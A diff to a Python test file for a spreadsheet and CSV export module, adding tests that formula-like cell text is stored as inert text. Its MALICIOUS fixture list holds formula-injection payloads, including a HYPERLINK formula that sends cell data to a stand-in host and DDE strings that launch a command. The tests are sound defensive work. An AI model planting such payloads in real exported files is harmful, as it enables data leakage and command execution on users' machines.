@@ -26,7 +26,7 @@ ROWS = [
         date(2017, 1, 31),
         datetime(2017, 1, 31, 7, 5, tzinfo=UTC),
     ],
-    [2, "จ้างเหมาบริการทำความสะอาดอาคาร", Decimal("480000"), date(2016, 10, 1), None],
+    [2, "จ้างเหมาบริการทำความสะอาดอาคาร", Decimal(480000), date(2016, 10, 1), None],
 ]
 
 
@@ -120,3 +120,66 @@ def test_sheet_titles_stay_unique_in_a_workbook():
     assert all(len(t) <= 31 for t in (first, second, third))
     assert unique_sheet_title("Summary", taken) == "Summary"
     assert unique_sheet_title("SUMMARY", taken) == "SUMMARY (2)"  # Excel compares names case-insensitively
+
+
+# --- formula injection ----------------------------------------------------------------------------
+
+MALICIOUS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_every_cell_written():
+    from core.documents.xlsx import guard_cell  # noqa: F401  (the helper every writer uses)
+
+    workbook = new_workbook("สรุปผล")
+    ws = workbook.active
+    ws["A1"] = MALICIOUS[0]  # a title written outside write_table
+    write_table(ws, ["เรื่อง"], [[text] for text in MALICIOUS], [40], start_row=3)
+    reread = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
+    cells = [reread["A1"], *[reread.cell(row=4 + i, column=1) for i in range(len(MALICIOUS))]]
+    assert [c.value for c in cells] == [MALICIOUS[0], *MALICIOUS]
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert reread["A3"].value == "เรื่อง" and not reread["A3"].quotePrefix
+
+
+def test_streaming_sheets_guard_their_cells_without_touching_the_shared_style():
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+
+    from core.documents.xlsx import safe_cell
+
+    workbook = Workbook(write_only=True)
+    ws = workbook.create_sheet("x")
+    shared = WriteOnlyCell(ws)
+    shared.number_format = "@"
+    styled = WriteOnlyCell(ws, value="=1+1")
+    styled._style = shared._style
+    plain = WriteOnlyCell(ws, value="ข้อความธรรมดา")
+    plain._style = shared._style
+    ws.append([safe_cell(ws, v) for v in ("=2+2", styled, plain, 5, None)])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    row = next(load_workbook(buffer).active.iter_rows())
+    assert [c.value for c in row[:4]] == ["=2+2", "=1+1", "ข้อความธรรมดา", 5]
+    assert [c.data_type for c in row[:3]] == ["s", "s", "s"]
+    assert row[1].quotePrefix and not row[2].quotePrefix
+
+
+def test_csv_fields_are_neutralised_and_numbers_kept():
+    import csv
+
+    from core.documents.xlsx import SafeCsvWriter, csv_value
+
+    assert csv_value("=1+1") == "'=1+1" and csv_value("@SUM(A1)") == "'@SUM(A1)"
+    assert csv_value("\t=1") == "'\t=1" and csv_value("+66 81") == "'+66 81"
+    assert csv_value("-1250.50") == "-1250.50" and csv_value("ซื้อ = จ้าง") == "ซื้อ = จ้าง" and csv_value(7) == 7
+    buffer = io.StringIO()
+    SafeCsvWriter(csv.writer(buffer)).writerow(["=cmd|' /C calc'!A0", "ปกติ"])
+    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=cmd|' /C calc'!A0", "ปกติ"]
